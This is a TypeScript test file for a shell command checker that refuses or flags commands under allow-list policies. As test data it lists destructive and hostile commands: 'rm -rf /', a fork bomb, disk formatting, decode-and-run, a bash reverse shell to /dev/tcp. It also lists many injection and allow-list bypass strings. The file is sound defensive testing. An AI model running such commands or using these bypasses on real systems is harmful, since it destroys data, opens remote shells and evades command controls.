import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { commandPolicy, commandVerdict } from '../../../contract/command.ts'
import { checkCommand } from './check-command.ts'

const check = (command: string, allow?: string[]) => checkCommand(command, commandPolicy.parse(allow ? { allow } : {}))

describe('a command of the shell', () => {
  it.each([
    ['rm -rf /', 'bash/delete-system'],
    ['sudo ls', 'bash/become-root'],
    ['true && doas ls', 'bash/become-root'],
    [':(){ :|:& };:', 'bash/fork-bomb'],
    ['echo x > /dev/sda', 'bash/write-device'],
    ['mkfs.ext4 /dev/sda1', 'bash/format-disk'],
    ['false || (mkfs -t ext4 /dev/sdb)', 'bash/format-disk'],
    ['echo "$(rm -rf ~)"', 'bash/delete-system'],
    ['chmod u+s ./sh', 'bash/set-user-id'],
    ['echo aWQ= | base64 -d | sh', 'bash/decode-and-run'],
    ['bash -i >& /dev/tcp/10.0.0.1/1 0>&1', 'bash/reverse-shell'],
  ])('%j is refused by every policy', (command, rule) => {
    expect(check(command)).toMatchObject({ allowed: false, rule })
    expect(check(command, ['rm', 'sudo', 'doas', 'echo', 'bash', 'sh'])).toMatchObject({ allowed: false, rule })
  })

  it('is allowed with the programs that it would run, when no list is given', () => {
    expect(check('ls -l | grep x > out && find . -exec wc {} + || echo "$(date)"')).toEqual({
      allowed: true,
      programs: ['date', 'echo', 'find', 'grep', 'ls', 'wc'],
      runsUnread: false,
    })
  })

  it.each([
    ['ls; id'],
    ['ls && id'],
    ['ls || id'],
    ['ls | id'],
    ['ls & id'],
    ['ls $(id)'],
    ['ls `id`'],
    ['ls <(id)'],
    ['ls > "$(id)"'],
    ['ls "${x:-$(id)}"'],
    ['ls $((a[$(id)]))'],
    ['x[$(id)]=1'],
    ['if ls; then id; fi'],
    ['for x in $(id); do ls; done'],
    ['case $(id) in *) ls ;; esac'],
    ['[[ $(id) ]] && ls'],
    ['f() { id; }; f'],
    ['ls <<X\n$(id)\nX'],
    ['ls | xargs id'],
    ['/usr/bin/id'],
    ['i\\d'],
    ['ls\nid'],
  ])('%j does not get id past a list without it', (command) => {
    const verdict = check(command, ['ls', 'xargs'])
    expect(verdict).toMatchObject({ allowed: false, rule: 'command/not-allowed' })
    expect(verdict.programs).toContain('id')
  })

  it.each([
    ['$x'],
    ['x=ls; $x'],
    ['env -Sls'],
    ['x=l; (x=v); ${x}s'],
    ['{ls,-l}'],
    ['/bin/l?'],
    ['$(echo ls)'],
    ['echo ls | sh'],
    ['x=ls; sh -c "$x"'],
    ['echo ls | xargs -I{} {} a'],
    ['a=(ls); ${a[0]}'],
    ['"$@"'],
    ['eval ls'],
    ['read x; $x'],
    ['. ./ls'],
    ['awk \'BEGIN { system("ls") }\''],
    ["x='a[$(ls)]'; ((x))"],
    ['x=\'$(ls)\'; ls "${x@P}"'],
  ])('%j runs an unknown program, so no list allows it', (command) => {
    const verdict = check(command, ['ls', 'eval', '.', 'read', 'awk', 'sh', 'echo', 'xargs', 'env'])
    expect(verdict).toMatchObject({ allowed: false, rule: 'command/unknown-program' })
  })

  it.each([
    ['PATH=/tmp:$PATH ls'],
    ['env PATH=/tmp ls'],
    ['export LD_PRELOAD=x.so; ls'],
    ['read PATH; ls'],
    ['for PATH in /tmp; do ls; done'],
  ])('%j would make another program of an allowed one', (command) => {
    const verdict = check(command, ['ls', 'export', 'read', 'env'])
    expect(verdict).toMatchObject({ allowed: false, rule: 'command/changes-programs' })
  })

  it('is no function of its own when that may not be there', () => {
    expect(check('f() { ls; }; f', ['ls'])).toMatchObject({ allowed: true })
    expect(check('false && id() { ls; }; id', ['ls'])).toMatchObject({ allowed: false, rule: 'command/not-allowed' })
    expect(check('id() { ls; }; unset -f id; id', ['ls'])).toMatchObject({
      allowed: false,
      rule: 'command/not-allowed',
    })
  })

  it('is not allowed by name when its file is at a place of its own', () => {
    expect(check('/tmp/ls', ['ls'])).toMatchObject({ allowed: false, rule: 'command/not-allowed' })
    expect(check('./ls', ['ls'])).toMatchObject({ allowed: false, rule: 'command/not-allowed' })
    expect(check('./ls', ['./ls'])).toEqual({ allowed: true, programs: ['./ls'], runsUnread: true })
    expect(check('/bin/ls', ['ls'])).toEqual({ allowed: true, programs: ['ls'], runsUnread: false })
  })

  it.each([
    ['./mine made'],
    ['/tmp/mine made'],
    ['/lib64/ld-linux-x86-64.so.2 /usr/bin/touch made'],
    ['bash script.sh'],
    ['sh < script'],
    ['cat script | bash'],
    ['env bash -l'],
    ['busybox sh script'],
    ['bash -o errexit script'],
    ['alias t=touch'],
    ['shopt -s expand_aliases'],
  ])('%j tells that it may run programs which it does not name', (command) => {
    expect(check(command)).toMatchObject({ runsUnread: true })
  })

  it.each([['ls'], ['bash -c "ls -l"'], ['/bin/bash -l -c ls'], ['sh <<< ls'], ['bash --version'], ['f() { ls; }; f']])(
    '%j names all that it runs',
    (command) => {
      expect(check(command)).toMatchObject({ runsUnread: false })
    },
  )

  it.each([[`x['$(touch made)']=1`], ['x[\\$(touch made)]=1'], [`x[$'\\x24(touch made)']=1`]])(
    '%j is refused with a list: the shell runs the command in a quoted subscript',
    (command) => {
      expect(check(command, ['touch'])).toMatchObject({ allowed: false, rule: 'command/unknown-program' })
    },
  )

  it.each([[`grep 'a[\\d$]' f`], [`echo "\${a['b']}"`], ['a["b"]=1']])('%j is no hidden command', (command) => {
    expect(check(command, ['grep', 'echo'])).toMatchObject({ allowed: true })
  })

  it('is never allowed by an empty list', () => {
    expect(check('ls', [])).toMatchObject({ allowed: false, rule: 'command/not-allowed', programs: ['ls'] })
  })

  it('is refused when it is longer than the policy says', () => {
    const policy = commandPolicy.parse({ longest: 10 })
    expect(checkCommand('echo 12345', policy)).toMatchObject({ allowed: true })
    expect(checkCommand('echo 123456', policy)).toMatchObject({ allowed: false, rule: 'command/too-long' })
  })

  it.each([['if ls'], ['echo "x'], ['ls )'], ['ls \0']])('%j is refused because it is not understood', (command) => {
    expect(check(command)).toMatchObject({ allowed: false, rule: 'command/not-understood' })
  })

  it('gets a verdict for any text', () => {
    const pieces = ['ls', ' ', '$(', ')', '`', '"', "'", '|', '&&', ';', '{', '}', '<<', '\n', '$x', '((', '))', '\\']
    const text = fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 3 })), { maxLength: 12 })
    fc.assert(
      fc.property(text, (parts) => {
        expect(commandVerdict.safeParse(check(parts.join(''), ['ls'])).success).toBe(true)
      }),
      { numRuns: 300 },
    )
  })
})
